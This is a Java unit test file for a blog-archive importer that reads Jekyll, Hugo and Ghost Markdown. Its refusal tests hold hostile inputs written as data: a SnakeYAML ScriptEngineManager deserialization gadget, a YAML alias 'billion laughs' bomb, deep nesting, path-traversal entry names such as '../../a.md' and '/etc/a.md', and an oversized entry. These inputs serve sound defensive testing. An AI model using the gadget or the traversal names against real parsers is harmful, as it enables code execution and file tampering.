package broadsheet.article.imports.format;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import broadsheet.article.exports.ArticleLine;
import broadsheet.article.imports.format.ImportItem.Refused;
import broadsheet.events.ArticleSnapshot.Status;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.time.Instant;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class MarkdownReaderTests {

    @Test
    void jekyllHugoAndGhostSayTheSameInTheirWays() throws IOException {
        var read = read(Map.of("blog-4f2c/_posts/2015-01-02-hello-world.md", """
                ---
                title: "Hello: world"
                categories: news campus
                tags: a b
                author: Ada Lovelace
                ---
                Some *words*.
                {% highlight java %}
                int i;
                {% endhighlight %}
                {: .note}
                """));
        ArticleLine jekyll = read.articles().get(0);
        assertThat(jekyll.title()).isEqualTo("Hello: world");
        assertThat(jekyll.slug()).isEqualTo("hello-world");
        assertThat(jekyll.sourceId()).isEqualTo("markdown:_posts/2015-01-02-hello-world.md");
        assertThat(jekyll.publishedAt()).isEqualTo(Instant.parse("2015-01-02T00:00:00Z"));
        assertThat(jekyll.status()).isEqualTo(Status.PUBLISHED);
        assertThat(jekyll.category()).isEqualTo(new ArticleLine.CategoryName("news", "news"));
        assertThat(jekyll.tags()).containsExactly("a", "b", "campus");
        assertThat(jekyll.author()).isEqualTo(new ArticleLine.AuthorLine("ada-lovelace", "Ada Lovelace"));
        assertThat(jekyll.body()).extracting(ArticleLine.BodyLine::text).isEqualTo("""
                        Some *words*.
                        ```java
                        int i;
                        ```

                        """);

        ArticleLine hugo = one("content/post/my-trip/index.md", """
                ---
                title: My trip
                date: 2020-05-06T07:08:09+02:00
                lastmod: 2021-01-01
                categories: ["Travel/Europe", "Food"]
                tags: ["sea"]
                cover:
                  image: https://blog.example/sea.jpg
                draft: false
                ---
                Text""");
        assertThat(hugo.slug()).isEqualTo("my-trip");
        assertThat(hugo.publishedAt()).isEqualTo(Instant.parse("2020-05-06T05:08:09Z"));
        assertThat(hugo.updatedAt()).isEqualTo(Instant.parse("2021-01-01T00:00:00Z"));
        assertThat(hugo.category()).isEqualTo(new ArticleLine.CategoryName("europe", "Europe"));
        assertThat(hugo.tags()).containsExactly("sea", "Food");
        assertThat(hugo.coverImage()).isEqualTo("https://blog.example/sea.jpg");

        ArticleLine ghost = one("my-post.md", """
                ---
                title: My post
                slug: the-post
                date_published: 2020-01-01
                published_at: '2020-01-02 03:04:05'
                feature_image: http://blog.example/a.jpg
                custom_excerpt: In short.
                visibility: members
                ---
                Text""");
        assertThat(ghost.slug()).isEqualTo("the-post");
        assertThat(ghost.summary()).isEqualTo("In short.");
        assertThat(ghost.coverImage()).isEqualTo("https://blog.example/a.jpg");
        assertThat(ghost.status()).as("of members alone").isEqualTo(Status.DRAFT);
        assertThat(ghost.createdAt()).isEqualTo(Instant.parse("2020-01-02T03:04:05Z"));
    }

    @Test
    void nestedCategoriesComeBeforeTheirArticles() throws IOException {
        var read = read(Map.of("a.md", "---\ntitle: x\ndate: 2020-01-01\ncategory: A/B/C\n---\n"));
        assertThat(read.categories()).containsExactly("a < null", "b < a", "c < b");
    }

    @Test
    void draftsAreDrafts() throws IOException {
        assertThat(one("_drafts/x.md", "---\ntitle: x\n---\n").status()).isEqualTo(Status.DRAFT);
        assertThat(one("x.md", "---\ndraft: true\n---\n").status()).isEqualTo(Status.DRAFT);
        assertThat(one("x.md", "---\npublished: false\ndate: 2020-01-01\n---\n").status())
                .isEqualTo(Status.DRAFT);
        assertThat(one("x.md", "---\nstatus: draft\n---\n").status()).isEqualTo(Status.DRAFT);
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            README.md     | # Hello                            | has no front matter in YAML: it begins with no line of ---
            a.md          | +++;title = 'x';+++;               | has no front matter in YAML: it begins with no line of ---
            a.md          | ---;title: x                       | has no end of its front matter: no second line of ---
            about.md      | ---;title: About;---;              | has no date and is no draft, so it is a page and no article
            a.md          | ---;- x;---;                       | has front matter that is no mapping of names to values
            a.md          | ---;date: soon;---;                | has a date that is none: soon
            ../../a.md    | ---;date: 2020-01-01;---;          | has a name that points out of the archive
            /etc/a.md     | ---;date: 2020-01-01;---;          | has a name that points out of the archive
            C:\\a.md      | ---;date: 2020-01-01;---;          | has a name that points out of the archive
            """)
    void whatIsNoArticleIsRefusedByItsName(String name, String text, String why) throws IOException {
        var read = read(Map.of(name, text.replace(';', '\n')));
        assertThat(read.articles()).isEmpty();
        assertThat(read.refused()).containsExactly(new Refused(name, why));
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            a: !!javax.script.ScriptEngineManager [!!java.net.URL ["http://x.example"]]
            a: &a [x];b: &b [*a,*a];c: &c [*b,*b,*b];d: &d [*c,*c,*c];e: [*d,*d,*d,*d,*d,*d,*d,*d,*d,*d,*d,*d,*d,*d]
            a: [[[[[[[[[[[[[[[[[[[[[[[]]]]]]]]]]]]]]]]]]]]]]]
            a: {
            """)
    void yamlThatMakesMoreThanValuesIsRefused(String yaml) throws IOException {
        var read = read(Map.of("a.md", "---\ntitle: x\ndate: 2020-01-01\n" + yaml.replace(";", "\n") + "\n---\n"));
        assertThat(read.articles()).isEmpty();
        assertThat(read.refused())
                .singleElement()
                .satisfies(refused -> assertThat(refused.why()).startsWith("has front matter that is no YAML: "));
    }

    @Test
    void aValueThatHoldsItselfEndsNothing() throws IOException {
        ArticleLine article = one("a.md", "---\ntitle: &a [*a]\ntags: &b {name: *b}\ndate: 2020-01-01\n---\n");
        assertThat(article.title()).isEqualTo("a");
        assertThat(article.tags()).isEmpty();
    }

    @Test
    void aFileThatInflatesToTooMuchIsRefused() throws IOException {
        var files = new LinkedHashMap<String, String>();
        files.put("bomb.md", "a".repeat(5 << 20));
        files.put("after.md", "---\ntitle: x\ndate: 2020-01-01\n---\n");
        var read = read(files);
        assertThat(read.refused()).containsExactly(new Refused("bomb.md", "is larger than 4194304 bytes"));
        assertThat(read.articles()).hasSize(1);
    }

    @Test
    void whatIsNoArchiveIsRefusedAsAWhole() {
        assertThatThrownBy(() -> ReadFile.of(ImportFormat.MARKDOWN, "no archive"))
                .isInstanceOf(UnreadableFileException.class)
                .hasMessage("It is no zip archive");
        assertThatThrownBy(() -> {
                    byte[] archive = archive(Map.of("a.md", "---\ntitle: x\ndate: 2020-01-01\n---\nfoo"));
                    archive[40] ^= 0x7F;
                    archive[45] ^= 0x7F;
                    ReadFile.of(ImportFormat.MARKDOWN, archive);
                })
                .isInstanceOf(UnreadableFileException.class)
                .hasMessageContaining("damaged");
        assertThatThrownBy(() -> {
                    byte[] archive = archive(Map.of("a.md", "---\ntitle: x\ndate: 2020-01-01\n---\nfoo"));
                    ReadFile.of(ImportFormat.MARKDOWN, Arrays.copyOf(archive, 50));
                })
                .isInstanceOf(UnreadableFileException.class)
                .hasMessageContaining("damaged");
    }

    private static ArticleLine one(String name, String text) throws IOException {
        return read(Map.of(name, text)).articles().get(0);
    }

    private static ReadFile read(Map<String, String> files) throws IOException {
        return ReadFile.of(ImportFormat.MARKDOWN, archive(files));
    }

    private static byte[] archive(Map<String, String> files) throws IOException {
        var bytes = new ByteArrayOutputStream();
        try (var archive = new ZipOutputStream(bytes)) {
            for (var file : files.entrySet()) {
                archive.putNextEntry(new ZipEntry(file.getKey()));
                archive.write(file.getValue().getBytes(UTF_8));
            }
        }
        return bytes.toByteArray();
    }
}
